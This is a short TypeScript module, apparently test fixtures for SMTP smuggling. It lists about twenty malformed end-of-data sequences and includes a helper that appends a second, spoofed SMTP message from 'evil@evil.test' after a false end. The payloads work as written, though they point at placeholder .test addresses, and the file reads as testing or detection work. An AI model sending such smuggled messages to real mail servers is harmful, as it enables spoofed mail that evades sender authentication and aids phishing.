/** What has been tried to make one message two: ends of data that some servers know and others do not. */

/** SMTP smuggling (2023) and its kin: each stands where a body ends, and a second message follows. */
export const FALSE_ENDS: Readonly<Record<string, string>> = {
  'LF . LF': '\n.\n',
  'LF . CRLF': '\n.\r\n',
  'CRLF . LF': '\r\n.\n',
  'CR . CR': '\r.\r',
  'CR . CRLF': '\r.\r\n',
  'CRLF . CR': '\r\n.\r',
  'CR . LF': '\r.\n',
  'LF . CR': '\n.\r',
  'CRLF NUL . CRLF': '\r\n\0.\r\n',
  'CRLF . NUL CRLF': '\r\n.\0\r\n',
  'NUL CRLF . CRLF with NUL between': '\r\0\n.\r\n',
  'CR CRLF . CR CRLF': '\r\r\n.\r\r\n',
  'CRLF . CR CRLF': '\r\n.\r\r\n',
  'CRLF . blank CRLF': '\r\n. \r\n',
  'CRLF blank . CRLF': '\r\n .\r\n',
  'CRLF .. CRLF': '\r\n..\r\n',
  'LF CR . CRLF': '\n\r.\r\n',
  'VT . VT': '\v.\v',
  'FF . FF': '\f.\f',
  'NEL . NEL': '\u0085.\u0085',
  'LS . LS': '\xe2\x80\xa8.\xe2\x80\xa8',
}

export const EVIL =
  'MAIL FROM:<evil@evil.test>\r\nRCPT TO:<ana@mail.example.test>\r\nDATA\r\nSubject: smuggled\r\n\r\nx'

/** What is sent behind 354: a body, the false end, a second message and its true end. */
export const smuggled = (end: string): string => `Subject: outer\r\n\r\nbody${end}${EVIL}\r\n.\r\n`
